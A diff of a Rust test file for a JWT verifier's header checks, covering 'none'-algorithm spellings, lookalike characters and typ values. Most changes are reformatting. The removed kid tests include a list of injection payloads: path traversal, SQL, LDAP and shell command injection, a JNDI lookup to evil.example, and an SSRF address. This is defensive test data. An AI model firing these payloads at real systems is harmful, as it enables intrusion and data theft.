@@ -1,4 +1,4 @@
-//! Headers: each way to spell an algorithm, a type, a kid or an extension, on tokens whose signature is good.
+//! Headers: each way to spell an algorithm, a type or an extension, on tokens whose signature is good.
 
 #![allow(
     clippy::arithmetic_side_effects,
@@ -15,7 +15,7 @@ use std::collections::BTreeSet;
 
 use rolecall::Algorithm;
 use serde_json::{Value, json};
-use support::{Attempt, code, drop, signer, text_claim};
+use support::{Attempt, code, drop, text_claim};
 
 /// What somebody may put at the edge of a name or in the middle of it.
 const INVISIBLE: [&str; 12] = [
@@ -24,7 +24,13 @@ const INVISIBLE: [&str; 12] = [
 
 /// A name, spelled so that a lax comparison takes it for the same.
 fn spellings(name: &str) -> BTreeSet<String> {
-    let swapped = |c: char| if c.is_ascii_uppercase() { c.to_ascii_lowercase() } else { c.to_ascii_uppercase() };
+    let swapped = |c: char| {
+        if c.is_ascii_uppercase() {
+            c.to_ascii_lowercase()
+        } else {
+            c.to_ascii_uppercase()
+        }
+    };
     let wide = |c: char| char::from_u32(u32::from(c) + 0xfee0).unwrap();
     let cyrillic = |c: char| match c {
         'A' => 'А',
@@ -89,8 +95,14 @@ fn a_name_with_escapes_is_the_name() {
         (r#"{"\u0061lg":"ES256","kid":"key"}"#, "accepted"),
         (r#"{"alg":"ES256\u0000","kid":"key"}"#, "unsupported_algorithm"),
         (r#"{"alg":"\\u0045S256","kid":"key"}"#, "unsupported_algorithm"),
-        (r#"{"alg":"none","\u0061lg":"ES256","kid":"key"}"#, "header_not_json"),
-        (r#"{"alg":"ES256","kid":"key","\u0061lg":"none"}"#, "header_not_json"),
+        (
+            r#"{"alg":"none","\u0061lg":"ES256","kid":"key"}"#,
+            "header_not_json",
+        ),
+        (
+            r#"{"alg":"ES256","kid":"key","\u0061lg":"none"}"#,
+            "header_not_json",
+        ),
     ] {
         let mut attempt = Attempt::new(Algorithm::ES256);
         attempt.header_bytes = Some(text.as_bytes().to_vec());
@@ -102,11 +114,28 @@ fn a_name_with_escapes_is_the_name() {
 #[test]
 fn no_spelling_of_none_is_an_algorithm() {
     let capitals = (0..16).map(|mask| {
-        let capital = |(index, c): (usize, char)| if mask >> index & 1 == 1 { c.to_ascii_uppercase() } else { c };
+        let capital = |(index, c): (usize, char)| {
+            if mask >> index & 1 == 1 {
+                c.to_ascii_uppercase()
+            } else {
+                c
+            }
+        };
         "none".char_indices().map(capital).collect::<String>()
     });
     let edged = spellings("none").into_iter();
-    let named = ["", "null", "nil", "undefined", "false", "0", "plain", "unsecured", "no"].map(str::to_owned);
+    let named = [
+        "",
+        "null",
+        "nil",
+        "undefined",
+        "false",
+        "0",
+        "plain",
+        "unsecured",
+        "no",
+    ]
+    .map(str::to_owned);
     for name in capitals.chain(edged).chain(named) {
         let mut attempt = Attempt::new(Algorithm::ES256);
         attempt.header["alg"] = json!(name);
@@ -141,7 +170,11 @@ fn unknown_algorithms_are_refused_whatever_the_signature() {
         }
         // Neither does a key that says the same.
         attempt.jwk()["alg"] = json!(name);
-        assert_eq!(code(&attempt.run()), "unsupported_algorithm", "{name} of the key, too");
+        assert_eq!(
+            code(&attempt.run()),
+            "unsupported_algorithm",
+            "{name} of the key, too"
+        );
     }
 }
 
@@ -208,7 +241,15 @@ fn extensions_are_refused_with_any_value() {
 
 #[test]
 fn only_these_types_are_id_tokens() {
-    for typ in ["JWT", "jwt", "Jwt", "jWT", "application/jwt", "application/JWT", "APPLICATION/JWT"] {
+    for typ in [
+        "JWT",
+        "jwt",
+        "Jwt",
+        "jWT",
+        "application/jwt",
+        "application/JWT",
+        "APPLICATION/JWT",
+    ] {
         let mut attempt = Attempt::new(Algorithm::ES256);
         attempt.header["typ"] = json!(typ);
         assert_eq!(code(&attempt.run()), "accepted", "{typ}");
@@ -219,101 +260,44 @@ fn only_these_types_are_id_tokens() {
         rfc7523+jwt authorization-grant+jwt txntoken+jwt wimse-id+jwt wit+jwt wpt+jwt JOSE JOSE+JSON JWE JWS JWTS \
         WT ID id_token id+jwt Bearer jwt; jwt;charset=utf-8 JWT,at+jwt application/ application/jwt; \
         application//jwt text/jwt application/x-jwt urn:ietf:params:oauth:token-type:jwt * ＪＷＴ JWТ";
-    let edged = INVISIBLE.iter().flat_map(|edge| [format!("{edge}JWT"), format!("JWT{edge}")]);
-    for typ in others.split_whitespace().map(str::to_owned).chain(edged).chain([String::new()]) {
+    let edged = INVISIBLE
+        .iter()
+        .flat_map(|edge| [format!("{edge}JWT"), format!("JWT{edge}")]);
+    for typ in others
+        .split_whitespace()
+        .map(str::to_owned)
+        .chain(edged)
+        .chain([String::new()])
+    {
         let mut attempt = Attempt::new(Algorithm::ES256);
         attempt.header["typ"] = json!(typ);
         assert_eq!(code(&attempt.run()), "wrong_type", "{typ:?}");
     }
 }
 
-#[test]
-fn a_kid_has_no_control_characters_and_an_end() {
-    let controls = (0..=0x9f_u8).map(char::from).filter(|c| c.is_control());
-    for control in controls {
-        for kid in [format!("{control}key"), format!("k{control}ey"), format!("key{control}")] {
-            let mut attempt = Attempt::new(Algorithm::ES256);
-            attempt.header["kid"] = json!(kid);
-            attempt.jwk()["kid"] = json!(kid);
-            assert_eq!(code(&attempt.run()), "malformed_header", "{kid:?}");
-        }
-    }
-    for (kid, expected) in [
-        ("k".repeat(256), "accepted"),
-        ("k".repeat(257), "malformed_header"),
-        ("ü".repeat(128), "accepted"),
-        ("ü".repeat(128) + "k", "malformed_header"),
-        (String::new(), "malformed_header"),
-    ] {
-        let mut attempt = Attempt::new(Algorithm::ES256);
-        attempt.header["kid"] = json!(kid);
-        attempt.jwk()["kid"] = json!(kid);
-        assert_eq!(code(&attempt.run()), expected, "{} bytes", kid.len());
-    }
-}
-
-/// What a kid was once used for: a path, a query, a command, a template, an address.
-const EVIL_KIDS: &[&str] = &[
-    "../../../../../../dev/null", "..\\..\\windows\\win.ini", "/dev/null", "/proc/sys/kernel/randomize_va_space",
-    "/etc/passwd", "file:///dev/null", "https://evil.example/key", "//evil.example/key", "http://169.254.169.254/",
-    "key' OR '1'='1", "x' UNION SELECT 'AA';--", "key\"; DROP TABLE keys; --", "1;SELECT pg_sleep(10)", "key)(uid=*))(|(uid=*",
-    "*)(objectClass=*", "| sleep 10", "; id", "$(id)", "`id`", "& ping -c 3 127.0.0.1", "${7*7}", "{{7*7}}", "#{7*7}",
-    "${jndi:ldap://evil.example/a}", "<%= 7*7 %>", "<script>alert(1)</script>", "%00", "%2e%2e%2f", "key%0d%0aset-cookie:x=1",
-    "%s%s%s%n", "__proto__", "constructor", "*", "%", "_", ".*", "^", "key*", "\u{202e}yek", "key\u{200b}",
-];
-
-/// A kid is compared and nothing else: each of these is the name of no key, or of the key that has exactly this name.
-#[test]
-fn an_evil_kid_is_only_a_name() {
-    for kid in EVIL_KIDS {
-        let mut attempt = Attempt::new(Algorithm::ES256);
-        attempt.header["kid"] = json!(kid);
-        let error = attempt.run().unwrap_err();
-        assert_eq!(error.code(), "unknown_key", "{kid}");
-        let message = error.to_string();
-        assert!(message.is_ascii() && !message.contains('\n'), "{message}");
-        attempt.jwk()["kid"] = json!(kid);
-        assert_eq!(code(&attempt.run()), "accepted", "{kid}");
-    }
-}
-
-#[test]
-fn a_kid_has_one_spelling() {
-    for kid in [
-        "Key", "KEY", "ke", "keyy", " key", "key ", "key/", "\"key\"", "k%65y", "ｋｅｙ", "kеy", "ke\u{301}y", "key,key", "0",
-    ] {
-        let mut attempt = Attempt::new(Algorithm::ES256);
-        attempt.header["kid"] = json!(kid);
-        assert_eq!(code(&attempt.run()), "unknown_key", "{kid}");
-    }
-    // Two forms of one letter are two names.
-    let mut attempt = Attempt::new(Algorithm::ES256);
-    attempt.header["kid"] = json!("\u{e9}");
-    attempt.jwk()["kid"] = json!("e\u{301}");
-    assert_eq!(code(&attempt.run()), "unknown_key");
-}
-
-/// A token with a kid is never verified with a key that has none, though that key would fit.
-#[test]
-fn a_kid_does_not_fall_back_to_a_key_without() {
-    let mut attempt = Attempt::new(Algorithm::ES256);
-    let mut nameless = signer(Algorithm::ES256).jwk("x");
-    drop(&mut nameless, "kid");
-    attempt.keys = Some(vec![nameless, signer(Algorithm::RS256).jwk("other")]);
-    assert_eq!(code(&attempt.run()), "unknown_key");
-    drop(&mut attempt.header, "kid");
-    assert_eq!(code(&attempt.run()), "accepted");
-}
-
 /// Header members that nobody knows, and claims that stand in the header: no policy sees them.
 #[test]
 fn the_header_is_no_source_of_claims() {
     let mut attempt = Attempt::new(Algorithm::ES256);
-    for member in ["iss", "sub", "aud", "project_path", "role", "Alg", "KID", "Crit", "", "__proto__"] {
+    for member in [
+        "iss",
+        "sub",
+        "aud",
+        "project_path",
+        "role",
+        "Alg",
+        "KID",
+        "Crit",
+        "",
+        "__proto__",
+    ] {
         attempt.header[member] = json!("evil");
     }
     let token = attempt.run().unwrap();
-    assert_eq!(text_claim(&token, "project_path").as_deref(), Some("group/project"));
+    assert_eq!(
+        text_claim(&token, "project_path").as_deref(),
+        Some("group/project")
+    );
     assert_eq!(token.subject(), attempt.claims["sub"].as_str().unwrap());
     for member in ["role", "Alg", "alg", "kid", "Crit", "typ", "", "__proto__"] {
         assert_eq!(text_claim(&token, member), None, "{member}");
